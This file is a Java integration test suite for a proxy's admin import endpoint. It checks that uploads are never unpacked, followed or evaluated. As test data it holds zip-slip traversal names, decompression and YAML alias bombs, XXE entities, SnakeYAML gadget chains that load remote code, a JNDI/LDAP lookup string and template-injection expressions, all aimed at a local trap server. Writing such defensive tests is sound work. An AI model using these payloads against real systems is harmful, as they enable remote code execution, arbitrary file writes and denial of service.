package dev.noon.it;

import static org.assertj.core.api.Assertions.assertThat;

import dev.noon.it.cluster.AdminAnswer;
import dev.noon.it.cluster.Cluster;
import dev.noon.it.http.RecordingUpstream;
import dev.noon.it.http.Reply;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is sent to be put in force is never unpacked, never followed and never evaluated; nothing is changed. */
@OnCluster
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AdminImportIT {
    private static final String REVISIONS = "/api/v1/environments/dev/revisions";
    private static final String YAML = "application/yaml";
    private static final String JSON = "application/json";
    private static final Duration QUICKLY = Duration.ofSeconds(5);
    private static final int BOMB_BYTES = 256 << 20;
    private static final String GOOD = """
            apiVersion: noon.dev/v1
            kind: Upstream
            metadata: { name: import-good }
            spec: { targets: [ { url: "http://127.0.0.1:9" } ] }
            """;

    private final Cluster cluster;
    private final Watched watched;
    /** Whoever follows anything ends here. */
    private final RecordingUpstream trap = RecordingUpstream.start((request, reply) -> reply.text("caught"));

    private final RecordingUpstream upstream = RecordingUpstream.start((request, reply) -> reply.text("reached"));

    AdminImportIT(Cluster cluster) {
        this.cluster = cluster;
        this.watched = new Watched(cluster);
    }

    @AfterAll
    void close() {
        upstream.close();
        trap.close();
    }

    static Stream<Arguments> packed() {
        byte[] archive = zip("../../../../../../../../tmp/noon-slip.yaml", GOOD);
        byte[] bomb = gzipped("#", BOMB_BYTES);
        byte[] small = gzipped(GOOD, GOOD.length());
        return Stream.of(
                Arguments.of("an archive", "application/zip", "", archive, 415),
                Arguments.of("an archive as a tape", "application/x-tar", "", archive, 415),
                Arguments.of("an archive as anything", "application/octet-stream", "", archive, 415),
                Arguments.of("an archive as YAML", YAML, "", archive, 400),
                Arguments.of("an archive as JSON", JSON, "", archive, 400),
                Arguments.of("a packed file", "application/gzip", "", small, 415),
                Arguments.of("a packed body", YAML, "gzip", small, 415),
                Arguments.of("a packed body under its old name", YAML, "x-gzip", small, 415),
                Arguments.of("a bomb", YAML, "gzip", bomb, 415),
                Arguments.of("a bomb in an envelope", JSON, "gzip", bomb, 415),
                Arguments.of("a bomb in a bomb", YAML, "gzip, gzip", bomb, 415),
                Arguments.of("a bomb that does not say so", YAML, "", bomb, 400),
                Arguments.of("packed in words only", YAML, "gzip", GOOD.getBytes(StandardCharsets.UTF_8), 415),
                Arguments.of("deflated in words only", YAML, "deflate", GOOD.getBytes(StandardCharsets.UTF_8), 415),
                Arguments.of("a form", "multipart/form-data; boundary=x", "", form(archive), 415),
                Arguments.of("several parts", "multipart/mixed; boundary=x", "", form(archive), 415));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("packed")
    void nothingIsUnpacked(String what, String type, String coding, byte[] body, int status) {
        String[] headers = coding.isEmpty()
                ? new String[] {"Content-Type", type}
                : new String[] {"Content-Type", type, "Content-Encoding", coding};
        watched.unchanged(() -> {
            long began = System.nanoTime();
            Reply reply = watched.sendBytes(REVISIONS, body, headers);
            assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(QUICKLY);
            Problems.check(reply, status);
        });
        assertThat(Path.of("/tmp/noon-slip.yaml")).doesNotExist();
    }

    @Test
    void theNameOfAFileIsAWordAndNoPlace(@TempDir Path directory) {
        Path place = directory.resolve("slip.yaml");
        String name = "../".repeat(20) + place.toString().substring(1);
        watched.unchanged(() -> {
            AdminAnswer answer = cluster.admin()
                    .send(
                            "POST",
                            "/revisions",
                            "{\"files\":[{\"name\":\"" + name + "\",\"text\":\"kind: Upstream\"}]}",
                            "Content-Type",
                            JSON);
            assertThat(answer.status()).as(answer.toString()).isEqualTo(422);
            assertThat(answer.json().path("errors").path(0).path("file").asText())
                    .isEqualTo(name);
        });
        assertThat(Files.exists(place)).isFalse();
    }

    static Stream<Arguments> documents() {
        return Stream.of(
                Arguments.of("XML as YAML", YAML, "<!DOCTYPE a SYSTEM \"http://TRAP/a.dtd\"><a/>", 422),
                Arguments.of("an entity as YAML", YAML, entity(), 422),
                Arguments.of("an entity as JSON", JSON, entity(), 400),
                Arguments.of("XML", "application/xml", entity(), 415),
                Arguments.of("XML of its own kind", "application/vnd.a+xml", entity(), 415),
                Arguments.of("an entity in an envelope", JSON, envelope(entity()), 422),
                Arguments.of("a reference in JSON", YAML, "{\"$ref\":\"http://TRAP/a.json\"}", 422),
                Arguments.of("a reference for an envelope", JSON, "{\"$ref\":\"http://TRAP/a.json\"}", 400),
                Arguments.of("a reference for files", JSON, "{\"files\":{\"$ref\":\"http://TRAP/a.json\"}}", 400),
                Arguments.of("OpenAPI", YAML, "openapi: 3.1.0\npaths: { /a: { $ref: \"http://TRAP/a.yaml\" } }\n", 422),
                Arguments.of("a Java tag", YAML, with("kind: !!java.net.URL [\"http://TRAP/x\"]"), 422),
                Arguments.of(
                        "a script tag",
                        YAML,
                        with("kind: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                                + " [[!!java.net.URL [\"http://TRAP/x\"]]]]"),
                        422),
                Arguments.of("a reference", YAML, with("spec: { $ref: \"http://TRAP/schema.json\" }"), 422),
                Arguments.of("a schema of its own", YAML, with("$schema: \"http://TRAP/schema.json\""), 422),
                Arguments.of("a file to include", YAML, with("spec: !include http://TRAP/x"), 422),
                Arguments.of("a merge key", YAML, with("spec: { <<: { a: 1 } }"), 422),
                Arguments.of("a directive", YAML, with("%TAG ! tag:TRAP,2000:"), 422));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("documents")
    void nothingIsFollowed(String what, String type, String body, int status) {
        int before = trap.connections();
        watched.unchanged(() -> {
            AdminAnswer answer = cluster.admin()
                    .send("POST", "/revisions", body.replace("TRAP", "127.0.0.1:" + trap.port()), "Content-Type", type);
            Problems.check(answer.reply(), status);
        });
        assertThat(trap.connections()).isEqualTo(before);
    }

    @Test
    void aBombOfAliasesIsRefusedQuickly() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x]\n");
        for (int i = 1; i < 10; i++) {
            bomb.append("a").append(i).append(": &a").append(i).append(" [");
            bomb.append(("*a" + (i - 1) + ",").repeat(9)).append("]\n");
        }
        refusedQuickly(REVISIONS, YAML, bomb.toString(), 422);
    }

    @ParameterizedTest
    @CsvSource({
        "/api/v1/environments/dev/revisions, application/yaml, 422",
        "/api/v1/environments/dev/revisions, application/json, 400",
        "/api/v1/environments/dev/purges, application/json, 400",
        "/api/v1/tokens, application/json, 400",
    })
    void whatIsNestedWithoutEndIsRefusedQuickly(String path, String type, int status) {
        refusedQuickly(path, type, "[".repeat(1_000_000), status);
        refusedQuickly(path, type, "{\"a\":".repeat(500_000), status);
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e999999999", "99999999999999999999", "-1", "0", "1.5", "0x10", "NaN"})
    void aNumberThatIsNoneMakesNoToken(String seconds) {
        refusedQuickly(
                "/api/v1/tokens",
                JSON,
                "{\"name\":\"n\",\"grants\":[\"reader:dev\"],\"seconds\":" + seconds + "}",
                400);
    }

    @Test
    void expressionsAreTextInTextAndNothingIsEvaluated() {
        String value = "#{7*7} {{7*7}} <%= 7*7 %> %{7*7} T(java.lang.Runtime)";
        String lookup = "${jndi:ldap://127.0.0.1:" + trap.port() + "/x} #{7*7}";
        long before = cluster.admin().head();
        int connections = trap.connections();
        AdminAnswer applied = cluster.admin()
                .send(
                        "POST",
                        "/revisions?wait=10&message=%24%7Bjndi%3Aldap%3A%2F%2F127.0.0.1%3A" + trap.port()
                                + "%2Fx%7D%20%23%7B7*7%7D",
                        Definitions.proxy(
                                        "import-text",
                                        upstream.url(),
                                        "responseHeaders: { set: { X-Text: \"" + value
                                                + "\", X-Variable: \"${env.TEXT}\" } }")
                                + "---\napiVersion: noon.dev/v1\nkind: Environment\nmetadata: { name: dev }\n"
                                + "spec: { variables: { TEXT: '" + lookup + "' } }\n",
                        "Content-Type",
                        YAML,
                        "User-Agent",
                        lookup,
                        "X-Request-Id",
                        lookup);

        assertThat(applied.complete()).as(applied.toString()).isTrue();
        Reply reply = cluster.node(1).get("/import-text");
        assertThat(reply.header("X-Text")).isEqualTo(value);
        assertThat(reply.header("X-Variable")).isEqualTo(lookup);
        assertThat(trap.connections()).isEqualTo(connections);
        assertThat(cluster.admin()
                        .history()
                        .json()
                        .path("revisions")
                        .path(0)
                        .path("message")
                        .asText())
                .isEqualTo(lookup);
        assertThat(cluster.admin().rollback(before).complete()).isTrue();
    }

    private void refusedQuickly(String path, String type, String body, int status) {
        watched.unchanged(() -> {
            long began = System.nanoTime();
            Reply reply = watched.sendBytes(path, body.getBytes(StandardCharsets.UTF_8), "Content-Type", type);
            assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(QUICKLY);
            Problems.check(reply, status);
        });
    }

    private static String with(String line) {
        return "apiVersion: noon.dev/v1\nmetadata: { name: import-bad }\n" + line + "\n";
    }

    private static String entity() {
        return "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"http://TRAP/b\">]><a>&b;</a>";
    }

    private static String envelope(String text) {
        return "{\"files\":[{\"name\":\"a.xml\",\"text\":\"" + text.replace("\"", "\\\"") + "\"}]}";
    }

    private static byte[] form(byte[] file) {
        String head = "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../a.yaml\"\r\n"
                + "Content-Type: application/zip\r\n\r\n";
        return (head + new String(file, StandardCharsets.ISO_8859_1) + "\r\n--x--\r\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] zip(String name, String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(text.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** So many bytes of {@code text}, over and over, packed. */
    private static byte[] gzipped(String text, int size) {
        byte[] chunk = text.repeat(Math.max(1, Math.min(size, 1 << 16) / text.length()))
                .getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (OutputStream gzip = new GZIPOutputStream(bytes)) {
            for (int written = 0; written < size; written += chunk.length) {
                gzip.write(chunk);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
